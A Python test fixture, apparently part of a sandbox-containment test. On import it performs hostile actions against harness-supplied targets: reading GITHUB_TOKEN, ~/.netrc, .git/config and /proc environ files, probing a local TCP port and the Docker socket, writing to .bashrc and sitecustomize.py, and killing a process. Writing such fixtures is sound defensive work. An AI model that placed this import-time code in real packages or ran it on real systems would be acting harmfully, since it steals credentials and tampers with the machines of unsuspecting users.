"""What hostile Python in a repository, or in a package, does as soon as it is imported. Used as source text.

It behaves where the canaries are not told. What it reads it leaves in the environment, for a model to print.
"""

# ruff: noqa: S110, SIM105, SIM115 - attacks do what one should not do

import json
import os
import socket
from collections.abc import Callable


def attack() -> None:
    t = json.loads(os.environ["TARGETS"])
    found = [os.environ.get("GITHUB_TOKEN", "")]

    def read(path: str) -> None:
        found.append(open(path, "rb").read().decode("utf-8", "replace"))

    def send(family: int, address: object, name: bytes) -> None:
        with socket.socket(family) as connection:
            connection.settimeout(3)
            connection.connect(address)  # type: ignore[arg-type]  # an address of any family
            connection.sendall(name)

    actions: list[Callable[[], object]] = [
        lambda: read(t["home"] + "/.netrc"),
        lambda: read(t["repository"] + "/.git/config"),
        lambda: read(f"/proc/{os.getppid()}/environ"),
        lambda: read(f"/proc/{t['victims']['environ']}/environ"),
        lambda: send(socket.AF_INET, ("127.0.0.1", t["tcp"]), b"connects_by_tcp"),
        lambda: send(socket.AF_UNIX, t["docker"], b"talks_to_docker"),
        lambda: open(t["home"] + "/.bashrc", "a").write("x"),
        lambda: open(t["repository"] + "/results.jsonl", "a").write("x"),
        lambda: open(t["runtime"] + "/sitecustomize.py", "w").write("x = 1"),
        lambda: os.kill(t["victims"]["killed"], 9),
    ]
    for action in actions:
        try:
            action()
        except Exception:  # noqa: BLE001 - one wall must not keep it from trying the next
            pass
    os.environ["FOUND"] = " ".join(found).replace("\0", " ")


if os.environ.get("TARGETS"):
    attack()
